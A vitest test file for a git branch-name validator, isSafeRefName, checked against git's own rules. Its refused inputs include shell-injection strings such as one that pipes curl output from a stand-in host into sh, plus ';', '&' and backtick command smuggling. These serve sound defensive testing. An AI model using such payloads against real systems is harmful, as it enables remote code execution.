import { execFileSync } from 'node:child_process';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isSafeRefName } from './ref-name.ts';

/** One shell for all names: a process for each would be most of the test's time. Names reach git as arguments only. */
function gitAccepts(names: readonly string[]): boolean[] {
  const script =
    'while IFS= read -r -d "" name; do git check-ref-format --branch "$name" >/dev/null 2>&1; echo $?; done';
  const input = names.map((name) => `${name}\0`).join('');
  const answer = execFileSync('bash', ['-c', script], { input, encoding: 'utf8' });
  return answer
    .trim()
    .split('\n')
    .map((code) => code === '0');
}

const TRICKY =
  '/ . .. .lock @ @{ - // feature refs/ HEAD main a ~ ^ : ? * [ \\ 作業 🎉 b.c {'.split(' ');
const piece = fc.oneof(
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 4 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 3 }) },
  {
    weight: 6,
    arbitrary: fc.string({ unit: fc.constantFrom(...'aZ9._/+-'), minLength: 1, maxLength: 4 }),
  },
  {
    weight: 6,
    arbitrary: fc.constantFrom(...TRICKY, ' ', '\t', '\n', '\x7f'),
  },
);
const names = fc
  .array(piece, { minLength: 1, maxLength: 4 })
  .map((pieces) => pieces.join(''))
  .filter((name) => name.isWellFormed() && !name.includes('\0'));

/** What we ask for beyond git's own rules, said a second time and differently. */
function isRefusedByUsAlone(name: string): boolean {
  return (
    name === 'HEAD' ||
    name.startsWith('refs/') ||
    name.toLowerCase() === 'main' ||
    name.toLowerCase().startsWith('main/') ||
    [...name].some((letter) => !'._/+-'.includes(letter) && !/[a-z0-9]/i.test(letter))
  );
}

describe('isSafeRefName', () => {
  it('says what git check-ref-format says, but for what we alone refuse', () => {
    const sample = [...new Set(fc.sample(names, { numRuns: 500, seed: 7 }))];
    const accepted = gitAccepts(sample);
    const differs = sample.filter(
      (name, index) =>
        isSafeRefName(name, 'main') !== (accepted[index] === true && !isRefusedByUsAlone(name)),
    );
    expect(differs).toEqual([]);
    const passed = sample.filter((name) => isSafeRefName(name, 'main')).length;
    expect(passed).toBeGreaterThan(20);
    expect(passed).toBeLessThan(sample.length - 20);
  });

  it.each(['feature/issue-7', 'fix', 'a.b/c', 'c++', 'a_b-1', 'maintenance', 'original/x'])(
    'allows %j',
    (name) => expect(isSafeRefName(name, 'main')).toBe(true),
  );

  const refusedByGit =
    '@ -x --force HEAD a..b a/ /a a//b .a a/.b a.lock a.lock/b a. a~1 a^ a:b a? a* a[b a\\b a@{1}';
  it.each([
    ...refusedByGit.split(' '),
    '',
    'a b',
    'refs/heads/x',
    'a\0b',
    'a\nb',
    'a\x7f',
    'a\u202eb',
    'a\u00a0b',
    'a\u200bb',
    '\ud800',
    'x'.repeat(201),
    'a@b',
    '作業/ログイン',
    'x-🎉',
    '$(curl${IFS}evil.example|sh)',
    'x;id|sh',
    'x&id',
    'a`id`',
    'a"b',
    "a'b",
    'a$b',
    'a>b',
    'a%b',
    'a!b',
    'a#b',
    'a=b',
    'a,b',
    'mаin',
    'a'.repeat(40),
    'origin/main',
    'Origin/x',
    'origin',
    'upstream/x',
    'remotes/origin/x',
    'heads/x',
    'tags/v1',
  ])('refuses %j', (name) => expect(isSafeRefName(name, 'main')).toBe(false));

  it('refuses the default branch in any case, and names that cannot exist beside it', () => {
    expect(isSafeRefName('trunk', 'trunk')).toBe(false);
    expect(isSafeRefName('Trunk', 'trunk')).toBe(false);
    expect(isSafeRefName('trunk/x', 'trunk')).toBe(false);
    expect(isSafeRefName('release', 'release/next')).toBe(false);
    expect(isSafeRefName('release/other', 'release/next')).toBe(true);
  });
});
